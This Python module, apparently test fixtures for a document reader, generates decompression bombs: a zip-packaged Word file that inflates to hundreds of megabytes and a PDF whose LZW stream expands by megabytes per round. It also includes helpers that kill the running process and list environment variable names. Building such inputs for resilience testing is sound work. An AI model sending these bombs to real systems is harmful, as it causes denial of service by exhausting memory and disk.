"""Files that are made to harm their reader."""

import io
import os
import signal
import zipfile

_CLEAR, _END = 256, 257


def zip_bomb(megabytes: int = 400) -> bytes:
    """A Word document whose text unpacks to so many megabytes of nothing."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w", force_zip64=True) as part:
            for _ in range(megabytes):
                part.write(bytes(1024 * 1024))
    return packed.getvalue()


def lzw_bomb(rounds: int) -> bytes:
    """A PDF with one page, the content of which unpacks to seven megabytes a round; rounds come by eights."""
    stream = _lzw(rounds)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        b"<< /Length %d /Filter /LZWDecode >>\nstream\n%s\nendstream" % (len(stream), stream),
    ]
    written, places = b"%PDF-1.5\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(written))
        written += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    return (
        written
        + b"xref\n0 5\n0000000000 65535 f \n%strailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF"
        % (
            table,
            len(written),
        )
    )


def _lzw(rounds: int) -> bytes:
    """Blanks, packed as tightly as LZW can: each code stands for one blank more than the code before it."""
    codes = [(_CLEAR, 9), (ord(" "), 9)]
    codes += (
        (code, 9 if code < 511 else 10 if code < 1023 else 11 if code < 2047 else 12)
        for code in range(258, 4094)
    )
    codes.append((_CLEAR, 12))
    bits = "".join(f"{code:0{width}b}" for code, width in codes) * 8  # eight rounds fill whole bytes
    return int(bits, 2).to_bytes(len(bits) // 8, "big") * (rounds // 8) + (_END << 7).to_bytes(2, "big")


def ends(*_: object) -> None:
    """Kill the process in which it runs."""
    os.kill(os.getpid(), signal.SIGKILL)


def environment() -> list[str]:
    """The names of the environment's variables, for the process in which it runs."""
    return list(os.environ)
